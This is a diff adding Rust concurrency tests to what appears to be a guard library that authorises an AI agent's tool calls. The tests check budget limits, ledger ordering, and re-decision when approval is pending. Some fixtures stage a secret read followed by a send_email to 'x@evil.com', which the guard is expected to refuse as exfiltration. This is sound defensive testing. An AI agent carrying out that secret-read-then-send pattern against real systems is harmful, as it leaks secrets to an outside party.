@@ -319,3 +319,147 @@ fn the_kill_switch_matches_a_look_alike_spelling_of_the_identity() {
 
     assert!(refusal.has(&ReasonCode::GrantInvalid), "{refusal:?}");
 }
+
+/// Runs `per_thread` calls of `call` on each of `threads` threads against one task; returns
+/// how many got a warrant.
+fn in_parallel(
+    task: &agentwarrant::Task,
+    threads: usize,
+    per_thread: usize,
+    call: fn() -> ToolCall,
+) -> usize {
+    let allowed = std::sync::atomic::AtomicUsize::new(0);
+    std::thread::scope(|scope| {
+        for _ in 0..threads {
+            scope.spawn(|| {
+                for _ in 0..per_thread {
+                    if let Ok(warrant) = task.authorize(call()) {
+                        warrant.complete(agentwarrant::Outcome::ok()).unwrap();
+                        allowed.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+                    }
+                }
+            });
+        }
+    });
+    allowed.into_inner()
+}
+
+#[test]
+fn parallel_calls_never_both_spend_the_last_unit_of_cumulative_impact() {
+    for _ in 0..20 {
+        let guard = builder().build().unwrap();
+        let task = guard.begin(ops(), anything()).unwrap();
+        let restart = || ToolCall::new("restart_service", json!({"service": "api"}));
+
+        // Medium weighs 1 and the default limit is 6: exactly six run without approval.
+        assert_eq!(in_parallel(&task, 8, 3, restart), 6);
+    }
+}
+
+#[test]
+fn parallel_calls_never_both_spend_the_last_unit_of_the_call_budget() {
+    for _ in 0..20 {
+        let guard = builder()
+            .limits(Limits {
+                max_calls: Some(10),
+                ..Limits::default()
+            })
+            .build()
+            .unwrap();
+        let task = guard.begin(ops(), anything()).unwrap();
+        let logs = || ToolCall::new("read_logs", json!({"service": "api"}));
+
+        assert_eq!(in_parallel(&task, 8, 4, logs), 10);
+    }
+}
+
+#[test]
+fn a_label_from_an_issued_warrant_is_seen_by_every_call_decided_after_it() {
+    for _ in 0..50 {
+        let ledger = Arc::new(agentwarrant::MemoryLedger::new());
+        let guard = builder()
+            .ledger(ledger.clone())
+            .approver(|request: &ApprovalRequest| {
+                std::thread::sleep(Duration::from_millis(1));
+                Ok(ApprovalAnswer::Approved(vec![Approval::of(request, BOB)]))
+            })
+            .build()
+            .unwrap();
+        let task = guard.begin(ops(), anything()).unwrap();
+        let send = || ToolCall::new("send_email", json!({"to": "x@evil.com", "body": "hi"}));
+        std::thread::scope(|scope| {
+            scope.spawn(|| {
+                let _ = task
+                    .authorize(secret())
+                    .map(|w| w.complete(agentwarrant::Outcome::ok()));
+            });
+            scope.spawn(|| in_parallel(&task, 1, 20, send));
+        });
+
+        // The ledger holds decisions in the order they were made: every send decided after
+        // the secret read's warrant was refused as exfiltration, every send before it ran.
+        let records = ledger.records();
+        let decided: Vec<_> = records
+            .iter()
+            .filter(|r| r.kind.as_str() == "call.decided")
+            .collect();
+        let read_at = decided
+            .iter()
+            .position(|r| r.tool.as_deref() == Some("read_secret"))
+            .unwrap();
+        for (index, record) in decided.iter().enumerate() {
+            if record.tool.as_deref() != Some("send_email") {
+                continue;
+            }
+            let refused_for_exfiltration = record
+                .decision
+                .as_ref()
+                .is_some_and(|d| d.reasons.iter().any(|r| r == "exfiltration"));
+            assert_eq!(
+                refused_for_exfiltration,
+                index > read_at,
+                "send {index} (read at {read_at}): {:?}",
+                record.decision
+            );
+        }
+    }
+}
+
+#[test]
+fn a_call_is_decided_again_when_the_chain_changed_while_its_approval_was_pending() {
+    // While a human approves a production send, a parallel call reads a secret: the send is
+    // decided again on the chain as it is now, and the read makes it exfiltration.
+    let during = During::default();
+    let answers = during.clone();
+    let guard = builder()
+        .env("prod")
+        .approver(move |request: &ApprovalRequest| {
+            if request.tool == "send_email" {
+                if let Some(action) = answers.lock().unwrap().as_ref() {
+                    action();
+                }
+            }
+            Ok(ApprovalAnswer::Approved(vec![Approval::of(request, BOB)]))
+        })
+        .build()
+        .unwrap();
+    let task = Arc::new(guard.begin(ops(), anything()).unwrap());
+    let reader = Arc::downgrade(&task);
+    *during.lock().unwrap() = Some(Box::new(move || {
+        let task = reader.upgrade().unwrap();
+        std::thread::spawn(move || task.authorize(secret()).map(|w| w.call_id()))
+            .join()
+            .unwrap()
+            .unwrap();
+    }));
+
+    let refusal = task
+        .authorize(ToolCall::new(
+            "send_email",
+            json!({"to": "x@evil.com", "body": "hi"}),
+        ))
+        .unwrap_err();
+
+    assert_eq!(refusal.kind, RefusalKind::Denied, "{refusal:?}");
+    assert!(refusal.has(&ReasonCode::Exfiltration), "{refusal:?}");
+}
